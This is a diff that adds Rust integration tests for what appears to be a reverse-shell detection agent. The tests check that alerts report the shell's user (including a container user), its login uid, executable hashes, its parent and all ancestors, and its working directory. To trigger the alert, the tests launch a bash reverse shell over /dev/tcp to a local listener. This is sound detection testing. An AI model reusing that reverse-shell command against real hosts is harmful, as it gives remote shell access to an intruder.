@@ -1,0 +1,173 @@
+//! What a responder reads in an alert without logging in to the host: who the shell runs as by
+//! name (resolved where the process lives), who logged in, the executable's digest, the parent
+//! and every ancestor with their command lines, and the working directory.
+
+use crate::agent::Agent;
+use crate::shells::is_incident_for;
+use crate::util::{KillOnDrop, ScratchDir, prerequisites};
+use std::io::{BufRead, BufReader, Write};
+use std::net::{TcpListener, TcpStream};
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+/// The parent's command line: python3 running a launcher with a distinctive mark.
+const LAUNCHER: &str = r#"
+import os, subprocess, sys
+# The audit login uid a login would have set: uid 1 (daemon) logged in, whatever runs after.
+with open('/proc/self/loginuid', 'w') as f:
+    f.write('1')
+shell = subprocess.Popen(sys.argv[3:])
+with open(sys.argv[2] + '.new', 'w') as f:
+    f.write(str(shell.pid))
+os.rename(sys.argv[2] + '.new', sys.argv[2])
+shell.wait()
+"#;
+
+/// A reverse shell launched by a python parent (cwd `dir`, argv marked with `mark`) through
+/// `prefix` (a command that execs the rest), connected to `listener`; proven to work by a
+/// command round trip. Returns the parent, the connection and the shell's pid.
+fn launch(
+    dir: &std::path::Path,
+    mark: &str,
+    prefix: &[&str],
+    listener: &TcpListener,
+) -> (KillOnDrop, TcpStream, i32) {
+    let port = listener.local_addr().unwrap().port();
+    let shell = format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
+    let pid_file = dir.join("shell.pid");
+    // No pipe to this test: the test holds the far end of the shell's connection, and a
+    // launcher whose stdio led to it would be a relay of its own (which the rules say).
+    let parent = KillOnDrop::new(
+        Command::new("python3")
+            .args(["-c", LAUNCHER, mark])
+            .arg(&pid_file)
+            .args(prefix)
+            .args(["bash", "-c", &shell])
+            .current_dir(dir)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let (mut peer, _) = listener.accept().unwrap();
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    let shell_pid: i32 = loop {
+        if let Ok(pid) = std::fs::read_to_string(&pid_file) {
+            break pid.parse().unwrap();
+        }
+        assert!(std::time::Instant::now() < deadline, "the launcher names the shell's pid");
+        std::thread::sleep(Duration::from_millis(10));
+    };
+    peer.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    peer.write_all(b"echo round-$((6*7))-trip\n").unwrap();
+    let mut seen = String::new();
+    let mut reader = BufReader::new(peer.try_clone().unwrap());
+    while !seen.contains("round-42-trip") {
+        let mut chunk = String::new();
+        assert!(reader.read_line(&mut chunk).unwrap() > 0, "the shell answered: {seen:?}");
+        seen.push_str(&chunk);
+    }
+    (parent, peer, shell_pid)
+}
+
+fn sha256sum(path: &str) -> String {
+    let out = Command::new("sha256sum").arg(path).output().unwrap();
+    String::from_utf8(out.stdout).unwrap().split_whitespace().next().unwrap().to_string()
+}
+
+#[test]
+fn an_alert_says_who_from_where_launched_by_what() {
+    if !prerequisites(&["python3", "bash", "setpriv", "sha256sum"]) {
+        return;
+    }
+    let dir = ScratchDir::new("context-cwd");
+    std::fs::set_permissions(&dir.path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+        .unwrap();
+    let agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mark = format!("--launched-by=context-test-{}", std::process::id());
+    let as_nobody = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"];
+    let (mut parent, _peer, shell) = launch(&dir.path, &mark, &as_nobody, &listener);
+    let alert = agent.wait_for("incident_opened", |e| {
+        is_incident_for(e, port)
+            && e["event"]["action"] == "incident_opened"
+            && e["process"]["pid"] == shell
+    });
+    let process = &alert["process"];
+    assert_eq!(process["pid"], shell, "{alert:#}");
+    assert_eq!(process["user"], serde_json::json!({"id": "65534", "name": "nobody"}));
+    assert_eq!(process["group"]["name"], "nogroup");
+    assert_eq!(process["working_directory"], dir.path.to_str().unwrap());
+    let exe = std::fs::read_link(format!("/proc/{shell}/exe")).unwrap();
+    assert_eq!(process["hash"]["sha256"], sha256sum(exe.to_str().unwrap()));
+    let audit = &alert["sockwatch"]["process"]["audit"];
+    assert_eq!(audit["login_uid"], 1, "{alert:#}");
+    assert_eq!(audit["login_user"], "daemon");
+    assert!(audit["session_id"].as_u64().is_some());
+    // The parent in full: its command line, its user, its digest.
+    let launcher = &process["parent"];
+    assert_eq!(launcher["pid"], parent.child().id());
+    assert!(launcher["command_line"].as_str().unwrap().contains(&mark), "{launcher:#}");
+    assert_eq!(launcher["user"]["name"], "root");
+    let python = std::fs::read_link(format!("/proc/{}/exe", parent.child().id())).unwrap();
+    assert_eq!(launcher["hash"]["sha256"], sha256sum(python.to_str().unwrap()));
+    // Every ancestor up to pid 1: the launcher, this test, …, init.
+    let ancestors = alert["sockwatch"]["process"]["ancestors"].as_array().unwrap();
+    let pids: Vec<i64> = ancestors.iter().map(|a| a["pid"].as_i64().unwrap()).collect();
+    assert_eq!(pids[0], i64::from(parent.child().id()));
+    assert!(pids.contains(&i64::from(std::process::id())), "{pids:?}");
+    assert_eq!(pids.last(), Some(&1), "{ancestors:#?}");
+    assert_eq!(alert["sockwatch"]["process"]["ancestors_total"], pids.len());
+    assert!(ancestors.iter().all(|a| a["command_line"].is_string() && a["start"].is_string()));
+    assert!(!alert["rule"]["description"][0].as_str().unwrap().is_empty());
+    let (_, events, _) = agent.stop();
+    let line = events.iter().find(|e| e["event"]["id"] == alert["event"]["id"]).unwrap();
+    assert!(serde_json::to_vec(line).unwrap().len() < 48 * 1024);
+}
+
+/// A uid only the process's own passwd names (a container's user) is named from that file; the
+/// host's passwd has no entry for it.
+#[test]
+fn a_container_user_is_named_from_the_containers_own_passwd() {
+    if !prerequisites(&["python3", "bash", "setpriv", "unshare", "mount", "getent"]) {
+        return;
+    }
+    const UID: &str = "47114";
+    let host_entry = Command::new("getent").args(["passwd", UID]).output().unwrap();
+    assert!(host_entry.stdout.is_empty(), "uid {UID} must be unknown to the host");
+    let dir = ScratchDir::new("context-passwd");
+    let passwd = dir.path.join("passwd");
+    let own = std::fs::read_to_string("/etc/passwd").unwrap();
+    std::fs::write(&passwd, format!("{own}app-svc:x:{UID}:{UID}::/srv:/bin/sh\n")).unwrap();
+    let agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // Its own mount namespace, where /etc/passwd is the container's file.
+    let mount = format!("mount --bind {} /etc/passwd && exec \"$@\"", passwd.display());
+    let prefix = [
+        "unshare",
+        "--mount",
+        "--propagation",
+        "private",
+        "sh",
+        "-c",
+        &mount,
+        "sh",
+        "setpriv",
+        &format!("--reuid={UID}"),
+        &format!("--regid={UID}"),
+        "--clear-groups",
+    ];
+    let (_parent, _peer, shell) = launch(&dir.path, "--container", &prefix, &listener);
+    let alert = agent.wait_for("incident_opened", |e| {
+        is_incident_for(e, port)
+            && e["event"]["action"] == "incident_opened"
+            && e["process"]["pid"] == shell
+    });
+    assert_eq!(alert["process"]["user"], serde_json::json!({"id": UID, "name": "app-svc"}));
+    // The launcher lives in the host's mount namespace: its root is named from the host's file.
+    assert_eq!(alert["process"]["parent"]["user"]["name"], "root");
+    agent.stop();
+}
